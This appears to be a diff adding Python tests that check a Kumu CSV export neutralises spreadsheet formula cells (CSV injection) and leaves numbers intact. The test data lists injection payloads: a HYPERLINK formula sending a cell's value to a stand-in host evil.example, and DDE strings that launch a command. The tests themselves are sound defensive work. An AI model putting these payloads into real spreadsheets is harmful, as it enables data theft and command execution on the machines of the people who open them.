@@ -208,6 +208,66 @@ def test_kumu_labels_shared_by_two_nodes_are_told_apart() -> None:
     assert sorted(froms) == sorted(label for label in labels if label != "Other")
 
 
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+def kumu_sheets(g: nx.MultiDiGraph) -> tuple[list[dict[str, str]], list[dict[str, str]]]:
+    with zipfile.ZipFile(io.BytesIO(network_bytes(g, "kumu-csv"))) as z:
+        elements = list(csv.DictReader(io.StringIO(z.read("elements.csv").decode("utf-8"), newline="")))
+        connections = list(csv.DictReader(io.StringIO(z.read("connections.csv").decode("utf-8"), newline="")))
+    return elements, connections
+
+
+def test_kumu_cells_a_spreadsheet_would_run_are_neutralised() -> None:
+    # OWASP's CSV injection advice: a text cell starting with = + - @ tab or CR gets a leading
+    # single quote, so Excel, LibreOffice and Google Sheets show it as text instead of running it.
+    g = nx.MultiDiGraph()
+    for i, text in enumerate(FORMULAS):
+        g.add_node(f"n{i}", label=text, type="Thing", label_en=text, note=text)
+    g.add_node("plain", label="BPBD", type="GovernmentAgency", label_en="Disaster agency", note="a - b")
+    for i in range(len(FORMULAS)):
+        g.add_edge(f"n{i}", "plain", key="knows", graph=FORMULAS[i], confidence=FORMULAS[i])
+    elements, connections = kumu_sheets(g)
+    by_id = {e["ID"]: e for e in elements}
+    for i, text in enumerate(FORMULAS):
+        row = by_id[f"n{i}"]
+        for column in ("Label", "Description", "note"):
+            assert row[column] == "'" + text, (column, row[column])
+    assert (by_id["plain"]["Label"], by_id["plain"]["note"]) == ("BPBD", "a - b")  # text elsewhere is untouched
+    # The sheets still connect: the same label is neutralised the same way in both.
+    labels = {e["Label"] for e in elements}
+    assert all(c["From"] in labels and c["To"] in labels for c in connections)
+    for c in connections:
+        assert c["Basis"].startswith("'") and c["Confidence"].startswith("'"), c
+    for row in (*elements, *connections):
+        for value in row.values():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
+
+
+def test_kumu_numbers_stay_numbers() -> None:
+    # A numeric column (value -0.5, a float) is written as the number, not quoted into text; a
+    # text cell that is nothing but a number ("-0.5") cannot hold a formula and stays as it is.
+    g = nx.MultiDiGraph()
+    g.add_node("neg", label="Negative", type="Figure", value=-0.5)
+    g.add_node("pos", label="Positive", type="Figure", value=2)
+    g.add_node("txt", label="-0.5", type="Figure", value=1.5)
+    g.add_node("sci", label="-1e3", type="Figure", value=0.0)
+    elements, _ = kumu_sheets(g)
+    by_id = {e["ID"]: e for e in elements}
+    assert [float(by_id[n]["value"]) for n in ("neg", "pos", "txt", "sci")] == [-0.5, 2.0, 1.5, 0.0]
+    assert by_id["neg"]["value"] == "-0.5"
+    assert (by_id["txt"]["Label"], by_id["sci"]["Label"]) == ("-0.5", "-1e3")
+
+
+def test_kumu_export_of_the_bundled_network_has_no_formula_cells(projected: nx.MultiDiGraph) -> None:
+    elements, connections = kumu_sheets(projected)
+    for row in (*elements, *connections):
+        for column, value in row.items():
+            if value.startswith(("=", "+", "-", "@", "\t", "\r")):
+                assert column == "value" and float(value) < 0, (column, value)
+
+
 # --- deterministic, and robust to mixed attribute types ----------------------------------------------
 
 
